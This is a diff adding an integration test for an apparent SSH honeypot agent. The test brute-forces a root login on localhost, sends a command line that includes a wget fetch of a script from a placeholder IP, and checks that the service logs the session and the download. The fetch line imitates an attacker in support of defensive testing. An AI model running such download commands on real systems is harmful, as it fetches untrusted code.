@@ -1,0 +1,61 @@
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { OPTIONS, run } from '../../ssh-agent/test/parts/openssh.ts';
+import { runCli, startCli } from './run-cli.ts';
+import { type StartedService, startService } from './start-service.ts';
+
+interface Kept {
+  readonly user_token: string;
+  readonly organization_id: string;
+}
+
+interface Sessions {
+  readonly data: readonly Record<string, unknown>[];
+}
+
+let service: StartedService;
+let kept: Kept;
+beforeAll(async () => {
+  service = await startService();
+  kept = (await service.json('bootstrap')) as Kept;
+}, 150_000);
+afterAll(() => service?.stop());
+
+describe('agent', { timeout: 120_000 }, () => {
+  it('lets an OpenSSH client in after some guesses, and the service shows what was done', async () => {
+    const env = {
+      SERVICE_SSH_PORT: '0',
+      SERVICE_SSH_HOST: '127.0.0.1',
+      SERVICE_DATA_DIR: join(service.dataDir, 'agent'),
+    };
+    const agent = startCli(['agent', '--data-dir', service.dataDir], env);
+    await agent.until('waits on port');
+    const port = /waits on port (\d+)/.exec(agent.said())?.[1] ?? '';
+    const line = 'uname -s; wget -q http://198.51.100.9/x.sh; nosuchthing';
+    let answer = { stdout: '', stderr: '', status: null as number | null };
+    for (let guess = 0; answer.status !== 127 && guess < 12; guess += 1) {
+      answer = await run('ssh', [...OPTIONS, '-p', port, 'root@127.0.0.1', line], `guess-${guess}`);
+    }
+    expect([answer.status, answer.stdout]).toEqual([127, 'Linux\n']);
+    expect(answer.stderr).toContain('nosuchthing: command not found');
+    agent.stop('SIGTERM');
+    await agent.ended;
+    const reply = await fetch(`${service.origin}/api/organizations/${kept.organization_id}/ssh-sessions`, {
+      headers: { Authorization: `Bearer ${kept.user_token}` },
+    });
+    const { data } = (await reply.json()) as Sessions;
+    expect(data).toHaveLength(1);
+    expect(data[0]).toMatchObject({ username: 'root', command_count: 1, download_count: 1, has_recording: true });
+  });
+
+  it('says what to do when it cannot start', async () => {
+    const without = await runCli(['agent', '--data-dir', join(service.dataDir, 'nothing')]);
+    expect([without.code === 0, without.stderr]).toEqual([false, expect.stringContaining('sundew agents create')]);
+    const taken = new URL(service.origin).port;
+    const beside = await runCli(['agent', '--data-dir', service.dataDir], {
+      ...{ SERVICE_SSH_PORT: taken, SERVICE_SSH_HOST: '127.0.0.1' },
+      SERVICE_DATA_DIR: join(service.dataDir, 'second'),
+    });
+    expect(beside.stderr).toContain('Set SERVICE_SSH_PORT to a free one');
+  });
+});
